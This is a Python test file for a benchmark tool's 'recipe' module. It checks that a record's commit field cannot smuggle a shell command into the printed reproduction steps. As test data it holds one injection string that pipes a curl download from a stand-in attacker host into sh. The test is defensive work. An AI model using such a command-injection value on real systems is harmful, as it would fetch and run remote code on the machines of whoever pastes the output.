"""recipe: the steps that re-derive a record's number, as show, the site and reproduce print them."""

from __future__ import annotations

import recordkit as rk

from claimbench.store.recipe import recipe


def test_only_a_commit_hash_reaches_the_shell_line():
    """A record's `git_commit` of `HEAD; curl ... | sh #` was printed as a command to paste (an
    adversarial review, 2026-12-06): only a hash is a commit; anything else is "unknown"."""
    rec = rk.build(rk.FIXTURE, "softmax-online", kernel_us=150, baseline_us=240)
    good = recipe(rec, "results/records/x.json")
    assert good.commit == rec.git_commit and f"git checkout --detach {rec.git_commit} && " in good.shell()
    evil = recipe(rec.model_copy(update={"git_commit": "HEAD; curl -s https://evil.example/x | sh #"}), "r.json")
    assert evil.commit is None and "curl" not in evil.shell() and "curl" not in "\n".join(evil.lines())
    assert any(line.startswith("commit     unknown") for line in evil.lines())
